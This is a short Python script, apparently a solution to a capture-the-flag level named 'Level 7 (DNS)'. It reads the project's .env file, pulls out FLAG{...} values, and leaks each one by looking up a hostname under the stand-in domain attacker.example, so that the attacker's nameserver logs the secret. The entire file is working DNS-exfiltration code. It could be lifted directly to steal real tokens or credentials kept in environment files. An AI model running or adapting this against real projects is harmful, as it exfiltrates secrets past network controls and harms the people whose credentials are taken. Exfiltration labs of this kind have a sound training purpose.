"""Level 7 (DNS): spell the flag into names under the attacker's zone; their nameserver logs every query."""
import re
import socket

env = open("/project/.env").read()
for inner in re.findall(r"FLAG\{([0-9a-f]+)\}", env):
    try:
        socket.gethostbyname(f"{inner}.attacker.example")
    except OSError:
        pass  # no answer is needed: the query itself carried the data
print("looked up")
